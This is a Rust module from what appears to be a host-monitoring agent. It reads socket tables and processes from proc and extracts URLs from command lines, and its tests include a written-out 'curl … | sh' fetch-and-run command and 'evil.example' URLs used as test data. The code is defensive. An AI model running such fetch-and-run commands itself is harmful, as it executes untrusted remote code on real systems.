//! What the kernel knows of sockets and of the processes that hold them: `proc(5)`.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::net::SocketAddr;

use procfs::net::{TcpNetEntry, TcpState, UdpNetEntry};
use procfs::process::{FDTarget, Process as Handle, all_processes};
use serde::Serialize;
use writ_lists::Kind;

/// Sockets that are looked at: what a busy proxy has.
const MAX_LINKS: usize = 500_000;
/// URLs of one command line.
const MAX_URLS: usize = 64;
/// What a URL begins with in a command line.
const BEGINNINGS: [&str; 3] = ["http://", "https://", "ftp://"];

/// A process of this host.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub(crate) struct Process {
    /// Its number.
    pub pid: i32,
    /// The number of its user.
    pub user: u32,
    /// The program's file, or its name when that cannot be seen.
    pub program: String,
    /// URLs that its command line names, each written in one way.
    #[serde(skip)]
    pub urls: Vec<String>,
}

impl Process {
    /// URLs that its command line names, and their hosts.
    pub(super) fn names(&self) -> impl Iterator<Item = String> {
        self.urls.iter().flat_map(|url| [Some(url.clone()), host_of(url)]).flatten()
    }
}

/// The host of a URL that is written in one way.
pub(super) fn host_of(url: &str) -> Option<String> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None => host.split(':').next()?,
    };
    Some(host.to_owned()).filter(|host| !host.is_empty())
}

/// A socket.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Link {
    pub(super) protocol: &'static str,
    pub(super) local: SocketAddr,
    /// The other end; `None`: it takes what comes.
    pub(super) peer: Option<SocketAddr>,
    /// Whose; `None`: not seen.
    pub(super) pid: Option<i32>,
    /// Nobody holds it any more; the kernel keeps it for a minute.
    pub(super) is_over: bool,
}

/// All of it.
#[derive(Debug, Default)]
pub(super) struct Table {
    pub(super) links: Vec<Link>,
    pub(super) processes: BTreeMap<i32, Process>,
    /// Processes that this agent may not look into.
    pub(super) unseen: usize,
}

impl Table {
    /// As it is now. What ends meanwhile is passed over.
    pub(super) fn read() -> Self {
        let mut table = Self::default();
        let mut holders = HashMap::new();
        let mut networks = HashSet::new();
        let mut sockets = Vec::new();
        for handle in all_processes().into_iter().flatten().flatten() {
            let Some(process) = read_process(&handle) else { continue };
            match handle.fd() {
                Ok(open) => {
                    for open in open.flatten() {
                        if let FDTarget::Socket(inode) = open.target {
                            holders.entry(inode).or_insert(process.pid);
                        }
                    }
                }
                Err(_) => table.unseen += 1,
            }
            // Each network of this host once: containers have their own.
            if let Some(network) = network_of(&handle)
                && networks.insert(network)
            {
                read_network(&handle, &mut sockets);
            }
            table.processes.insert(process.pid, process);
        }
        if networks.is_empty()
            && let Ok(own) = Handle::myself()
        {
            read_network(&own, &mut sockets);
        }
        sockets.truncate(MAX_LINKS);
        let held = sockets.into_iter().map(|(link, inode)| Link {
            pid: holders.get(&inode).copied(),
            is_over: inode == 0,
            ..link
        });
        table.links = held.collect();
        table
    }
}

fn network_of(handle: &Handle) -> Option<u64> {
    let namespaces = handle.namespaces().ok()?;
    namespaces.0.get(std::ffi::OsStr::new("net")).map(|network| network.identifier)
}

fn read_process(handle: &Handle) -> Option<Process> {
    let user = handle.uid().ok()?;
    let name = || handle.stat().ok().map(|stat| stat.comm);
    let program = handle.exe().ok().map(|exe| exe.display().to_string()).or_else(name)?;
    let arguments = handle.cmdline().unwrap_or_default();
    let mut urls: Vec<_> = arguments.iter().flat_map(|argument| urls_in(argument)).collect();
    urls.sort();
    urls.dedup();
    urls.truncate(MAX_URLS);
    Some(Process { pid: handle.pid, user, program, urls })
}

/// URLs in a text, each written in one way.
fn urls_in(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let starts = BEGINNINGS.iter().flat_map(|beginning| text.match_indices(beginning).map(|(at, _)| at));
    for at in starts.take(MAX_URLS) {
        let rest = &text[at..];
        let is_end =
            |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>');
        let url = rest.split(is_end).next().unwrap_or_default();
        found.extend(Kind::Url.canonical(url.trim_end_matches([',', ';', ')', ']'])));
    }
    found
}

fn read_network(handle: &Handle, sockets: &mut Vec<(Link, u64)>) {
    let tcp = [handle.tcp(), handle.tcp6()].into_iter().flatten().flatten();
    sockets.extend(tcp.filter_map(|entry| Some((tcp_link(&entry)?, entry.inode))));
    let udp = [handle.udp(), handle.udp6()].into_iter().flatten().flatten();
    sockets.extend(udp.map(|entry| (udp_link(&entry), entry.inode)));
}

fn canonical(address: SocketAddr) -> SocketAddr {
    SocketAddr::new(address.ip().to_canonical(), address.port())
}

fn tcp_link(entry: &TcpNetEntry) -> Option<Link> {
    let peer = match entry.state {
        TcpState::Close => return None,
        TcpState::Listen => None,
        _ => Some(canonical(entry.remote_address)),
    };
    Some(link("tcp", entry.local_address, peer))
}

fn udp_link(entry: &UdpNetEntry) -> Link {
    // A UDP socket without a peer takes from anybody.
    let peer = (entry.remote_address.port() != 0).then(|| canonical(entry.remote_address));
    link("udp", entry.local_address, peer)
}

fn link(protocol: &'static str, local: SocketAddr, peer: Option<SocketAddr>) -> Link {
    Link { protocol, local: canonical(local), peer, pid: None, is_over: false }
}

#[cfg(test)]
mod tests {
    use std::net::{TcpListener, TcpStream};

    use super::*;

    #[test]
    fn what_this_test_itself_talks_to_is_in_the_table_with_its_process() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let at = listener.local_addr().unwrap();
        let stream = TcpStream::connect(at).unwrap();
        let from = stream.local_addr().unwrap();
        let table = Table::read();
        let own = i32::try_from(std::process::id()).unwrap();
        let has = |local, peer| {
            let link = Link { protocol: "tcp", local, peer, pid: Some(own), is_over: false };
            table.links.contains(&link)
        };
        assert!(has(at, None), "it listens");
        assert!(has(from, Some(at)), "it talks");
        let process = &table.processes[&own];
        assert_eq!(process.user, rustix::process::getuid().as_raw());
        assert!(process.program.starts_with('/'), "{process:?}");
    }

    #[test]
    fn urls_are_found_in_arguments_whatever_stands_around_them() {
        for (text, urls) in [
            ("http://Evil.example:80/a#b", vec!["http://evil.example/a"]),
            ("--url=https://evil.example/a?b=c,", vec!["https://evil.example/a?b=c"]),
            (
                "sh -c 'curl http://a.example/ | sh; wget \"ftp://b.example/x\"'",
                vec!["http://a.example/", "ftp://b.example/x"],
            ),
            ("http://", vec![]),
            ("hxxp://evil.example", vec![]),
            ("nothing", vec![]),
        ] {
            assert_eq!(urls_in(text), urls, "{text}");
        }
        for (url, host) in [
            ("http://a.example/x", Some("a.example")),
            ("http://a.example:8080/x", Some("a.example")),
            ("https://u:p@a.example?x", Some("a.example")),
            ("http://[2001:db8::1]:8080/", Some("2001:db8::1")),
            ("http:///x", None),
            ("a.example", None),
        ] {
            assert_eq!(host_of(url).as_deref(), host, "{url}");
        }
    }
}
